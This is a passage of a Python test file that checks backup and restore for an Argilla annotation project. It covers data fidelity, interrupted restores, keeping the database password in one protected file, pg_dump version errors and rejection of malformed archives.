        while min(len(person.records) for person in people) < len(max(promised, key=len)) + 5:
            time.sleep(0.02)  # nobody was held up for good
    assert not any(person.refusals for person in people), [person.refusals for person in people]

    address = fresh_database(project)
    restored = restore(tmp_path / "one.zip", tmp_path / "again", database=address)
    assert restored.counts == json.loads(done.stdout)["counts"]
    held = tables(Project.open(tmp_path / "again"))
    if restored.database == "sqlite":
        with contextlib.closing(sqlite3.connect(tmp_path / "again" / ".argilla" / "argilla.db")) as database:
            assert database.execute("pragma foreign_key_check").fetchall() == []
    ours = {UUID(site.dataset), str(UUID(site.dataset)), UUID(site.dataset).hex}
    records = {row["id"]: row["external_id"] for row in held["records"] if row["dataset_id"] in ours}
    for person, certain in zip(people, promised, strict=True):
        inside = sorted(name for name in records.values() if name.startswith(f"{person.number}-"))
        assert inside == person.records[: len(inside)]
        assert len(inside) >= len(certain)
    inside = {records[row["record_id"]] for row in held["responses"] if row["record_id"] in records}
    assert inside >= set().union(*answered)
    for name in ("vectors", "suggestions"):  # what came with a record is there, once
        assert sorted(row["record_id"] for row in held[name] if row["record_id"] in records) == sorted(records)


def fresh_database(project: Project) -> str:
    """An empty database on the same PostgreSQL; nothing for SQLite."""
    address = embedded.database_of(project.argilla_home)
    if not address:
        return ""
    name = f"again_{time.time_ns()}"
    subprocess.run([psql(), "-q", address, "-c", f"create database {name} template template0"], check=True)
    base, _, _ = address.rpartition("/")
    return f"{base}/{name}"


@pytest.mark.server
def test_everything_comes_back_and_people_log_in_as_before(
    kept: tuple[Project, Site], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, site = kept
    with at_work(site) as people:
        while min(len(person.answered) for person in people) < 3:
            time.sleep(0.02)
    session = site.call("POST", "/token", data={"username": "person-1", "password": "person-1-password"})
    made = back_up(project, tmp_path / "one.zip")
    before, server = tables(project), embedded.owner(project.argilla_home)
    there, feed = list(site.records()), site.call("GET", "/annot/changes")

    address = fresh_database(project)
    words = ["restore", str(tmp_path / "one.zip"), "--project", str(tmp_path / "again")]
    done = annot(*words, **({"ANNOT_DATABASE_URL": address} if address else {}))
    assert done.returncode == 0, done.stderr
    again = Project.open(tmp_path / "again")
    after = tables(again)
    assert before == after
    for name in ("users", "workspaces", "datasets", "records", "responses", "suggestions", "vectors", "questions"):
        assert len(after[name]) == made.counts[f"argilla.{name}"] > 0, name
    assert rows(again.folder / "ledger.sqlite") == rows(project.folder / "ledger.sqlite")
    assert embedded.owner(again.argilla_home) == server
    if address:  # once is enough for what both databases have in common
        second = fresh_database(project)
        with monkeypatch.context() as killed:

            def kill(*_arguments: Any, **_options: Any) -> None:
                raise KeyboardInterrupt

            killed.setattr(embedded, "adopt", kill)  # what comes after the database was filled
            with pytest.raises(KeyboardInterrupt):
                restore(tmp_path / "one.zip", tmp_path / "second", database=second)
        assert not (tmp_path / "second" / "annot.toml").exists()
        restore(tmp_path / "one.zip", tmp_path / "second", database=second)
        assert tables(Project.open(tmp_path / "second")) == before
        assert not (tmp_path / "second" / ".restoring").exists()
        with pytest.raises(ServerError, match=r"database at .* is not empty"):
            restore(tmp_path / "one.zip", tmp_path / "third", database=address)
        assert not (tmp_path / "third" / "annot.toml").exists()
        return

    (again.folder / "annot.toml").write_text(f"{SETTINGS}[argilla]\nport = {free_port()}\n")
    started = annot("up", "--project", str(again.folder), "--json")
    assert started.returncode == 0, started.stderr
    try:
        url = json.loads(started.stdout)["url"]
        with httpx.Client(base_url=f"{url}/api/v1", trust_env=False, timeout=30) as client:
            # The old session, the password and the key all go on working.
            me = client.get("/me", headers={"Authorization": f"Bearer {session['access_token']}"})
            assert me.json()["username"] == "person-1"
            client.headers["X-Argilla-Api-Key"] = server.api_key
            # The numbers of the change feed are the same; whoever read them there has to read everything here.
            begun = client.get("/annot/changes").json()
            assert begun["last"] == feed["last"] > 0
            assert begun["feed"] != feed["feed"]
            place = f"/datasets/{site.dataset}/records"
            options: dict[str, Any] = {"include": ["responses", "vectors", "suggestions"], "limit": 500}
            assert client.get(place, params=options).json()["items"] == there[:500]
            found = client.post(f"{place}/search", json={"query": {"text": {"q": "persona1"}}}).json()
            assert found["total"] == sum(record["external_id"].startswith("1-") for record in there)
            query = {"query": {"vector": {"name": "meaning", "value": [1, 0, 0]}}}
            similar = client.post(f"{place}/search", json=query, params={"limit": 500}).json()
            assert len(similar["items"]) == min(500, len(there))
    finally:
        embedded.stop(again.argilla_home)


@pytest.mark.server
@pytest.mark.parametrize("kept", ["postgresql"], indirect=True)
def test_the_database_s_password_stands_in_one_file_only(kept: tuple[Project, Site]) -> None:
    project, _ = kept
    address = embedded.database_of(project.argilla_home)
    state = embedded.state(project.argilla_home)
    password = Database.parse(address).password
    assert password
    assert password not in state.database
    holding = {
        path.name
        for path in project.folder.rglob("*")
        if path.is_file()
        and path.suffix != ".zip"
        and any(form.encode() in path.read_bytes() for form in (password, quote(password, safe="")))
    }
    assert holding == {"secrets.json"}
    assert stat.S_IMODE((project.argilla_home / "secrets.json").stat().st_mode) == 0o600
    for pid in state.processes.values():
        assert not [word for word in psutil.Process(pid).cmdline() if password in word or address in word]
    # Another database is refused while people work in this one; the same one under another name of the host is not.
    other = annot("up", "--database", address[:-3] + "xyz", "--project", str(project.folder))
    assert other.returncode == 2
    assert "annot backup" in other.stderr
    assert password not in other.stderr
    same = annot("up", "--database", address.replace("127.0.0.1", "localhost"), "--project", str(project.folder))
    assert same.returncode == 0, same.stderr


@pytest.mark.server
@pytest.mark.parametrize("kept", ["postgresql"], indirect=True)
def test_a_pg_dump_that_is_too_old_or_missing_is_named(
    kept: tuple[Project, Site], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, _ = kept
    (tmp_path / "out").mkdir()
    old = tmp_path / "bin" / "pg_dump"
    old.parent.mkdir()
    old.write_text("#!/bin/sh\necho 'pg_dump (PostgreSQL) 9.6.24'\n")
    old.chmod(0o755)
    monkeypatch.setenv("PATH", str(old.parent))
    with pytest.raises(ServerError, match=r"pg_dump on PATH is version 9, the server is \d+: install"):
        back_up(project, tmp_path / "out" / "one.zip")
    old.unlink()
    with pytest.raises(ServerError, match="pg_dump is not on PATH"):
        back_up(project, tmp_path / "out" / "one.zip")
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("annot.toml", b"train = 3\n"),
        ("manifest.json", b"[" * 100_000),
        ("manifest.json", b'{"counts": {"x": Infinity}}'),
    ],
)
def test_an_archive_of_nonsense_is_a_sentence_and_its_server_is_named(
    project: Project, tmp_path: Path, name: str, content: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = Path(back_up(project, tmp_path / "one.zip").path)
    if name == "manifest.json":
        with zipfile.ZipFile(tmp_path / "other.zip", "w") as other:
            other.writestr(name, content)
        with pytest.raises(ProjectError, match="damaged"):
            restore(tmp_path / "other.zip", tmp_path / "place")
        return
    restore(rewritten(archive, lambda _manifest, contents: contents.update({name: content})), tmp_path / "place")
    with pytest.raises(SettingsError, match="write it as a table"):
        Project.open(tmp_path / "place")
    there = b'[argilla]\nurl = "https://elsewhere.example"\n'
    restore(rewritten(archive, lambda _manifest, contents: contents.update({name: there})), tmp_path / "other")
    assert "https://elsewhere.example" in capsys.readouterr().err
